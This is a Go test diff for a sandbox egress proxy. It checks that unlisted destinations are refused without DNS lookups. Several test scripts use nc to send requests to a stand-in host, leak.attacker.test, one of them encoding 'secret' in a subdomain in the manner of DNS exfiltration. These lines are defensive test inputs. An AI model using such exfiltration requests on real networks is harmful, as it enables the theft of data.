@@ -18,6 +18,7 @@ import (
 	"github.com/slipway-dev/slipway/pkg/execution/sandbox"
 	"github.com/slipway-dev/slipway/pkg/execution/sandbox/local"
 	"github.com/slipway-dev/slipway/pkg/execution/sandbox/runner"
+	"github.com/slipway-dev/slipway/testharness/dnstest"
 )
 
 // hostIPv4 is a non-loopback address of the host: a sandbox's 127.0.0.1
@@ -176,6 +177,69 @@ func TestEgressSpecRefused(t *testing.T) {
 		_, err := b.Create(context.Background(), spec)
 		if !errors.Is(err, sandbox.ErrInvalidSpec) || !strings.Contains(err.Error(), tc.want) {
 			t.Errorf("%s: err = %v, want ErrInvalidSpec with %q", name, err, tc.want)
+		}
+	}
+}
+
+// TestEgressLooksUpOnlyListedNames (issue 37, finding 5): from inside an
+// allow-list sandbox, names no entry lists (data in a name, over plain
+// HTTP and CONNECT) are refused without a single DNS query at the proxy's
+// resolver, a DNS server the test runs on loopback; a listed name is
+// looked up there and reached at the address it resolved to.
+func TestEgressLooksUpOnlyListedNames(t *testing.T) {
+	setup(t)
+	ip := hostIPv4(t)
+	ln, err := net.Listen("tcp", net.JoinHostPort(ip, "0"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	origin := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		_, _ = io.WriteString(w, "hello from origin")
+	})}
+	go func() { _ = origin.Serve(ln) }()
+	defer origin.Close()
+	_, port, _ := net.SplitHostPort(ln.Addr().String())
+	dns := dnstest.Start(t, map[string][]string{"origin.test": {ip}, "leak.attacker.test": {ip}})
+
+	rec := &attempts{all: map[string][]egress.Attempt{}}
+	b := newBackend(t, t.TempDir(), local.WithEgressRecorder(rec.record), local.WithEgressResolver(egress.ResolverAt(dns.Addr)))
+	spec := specFor(t, templateImage(t, "", ""))
+	spec.Network, spec.Allow = sandbox.NetworkAllowList, []string{"origin.test:" + port, ip + "/32:" + port}
+	s := create(t, b, spec)
+
+	for _, script := range []string{
+		fmt.Sprintf(`(printf 'GET http://c2VjcmV0.leak.attacker.test:%[1]s/ HTTP/1.1\r\nHost: c2VjcmV0.leak.attacker.test\r\n\r\n'; sleep 1) | nc -w 3 127.0.0.1 3128`, port),
+		fmt.Sprintf(`(printf 'CONNECT leak.attacker.test:%[1]s HTTP/1.1\r\nHost: leak.attacker.test:%[1]s\r\n\r\n'; sleep 1) | nc -w 3 127.0.0.1 3128`, port),
+		`(printf 'CONNECT origin.test:1 HTTP/1.1\r\nHost: origin.test:1\r\n\r\n'; sleep 1) | nc -w 3 127.0.0.1 3128`,
+	} {
+		if out, _, _ := sh(t, s, script); !strings.HasPrefix(out, "HTTP/1.1 403 ") || !strings.Contains(out, "not looked up") {
+			t.Fatalf("unlisted destination: %q", out)
+		}
+	}
+	if q := dns.Queries(); len(q) != 0 {
+		t.Fatalf("the egress proxy looked up names no entry lists: %v", q)
+	}
+	if out, stderr, code := sh(t, s, fmt.Sprintf("wget -q -O - http://origin.test:%s/", port)); code != 0 || out != "hello from origin" {
+		t.Fatalf("listed name: exit %d, %q %q", code, out, stderr)
+	}
+	for _, q := range dns.Queries() {
+		if q.Name != "origin.test" && !strings.HasPrefix(q.Name, "origin.test.") {
+			t.Fatalf("queries: %v", dns.Queries())
+		}
+	}
+	if len(dns.Queries()) == 0 {
+		t.Fatal("the listed name was not looked up at the proxy's resolver")
+	}
+	if err := b.Delete(context.Background(), s.ID); err != nil {
+		t.Fatal(err)
+	}
+	all := rec.of(s.ID)
+	if len(all) != 4 || !all[3].Allowed || all[3].Address != ip || all[3].Destination != "origin.test:"+port {
+		t.Fatalf("attempts %+v", all)
+	}
+	for _, a := range all[:3] {
+		if a.Allowed || a.Address != "" {
+			t.Fatalf("refusal recorded as %+v", a)
 		}
 	}
 }
